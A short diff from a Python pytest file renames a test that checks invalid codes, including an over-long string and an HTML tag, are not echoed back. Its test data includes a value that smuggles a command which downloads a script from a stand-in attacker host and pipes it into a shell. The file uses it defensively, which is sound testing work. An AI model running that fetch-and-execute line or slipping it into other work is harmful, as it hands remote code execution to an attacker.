@@ -20,7 +20,7 @@ EVIL = "no such thing; curl https://evil.example | sh"
     ],
 )
 @pytest.mark.parametrize("code", [EVIL, "k8s aws", "a" * 81, "<b>"])
-def test_a_code_that_is_none_is_not_repeated(
+def test_an_invalid_code_is_not_repeated(
     world: World, capsys: pytest.CaptureFixture[str], service: str, action: str, code: str
 ) -> None:
     world.add_cluster("prod", namespaces=("a",), embedded=True)
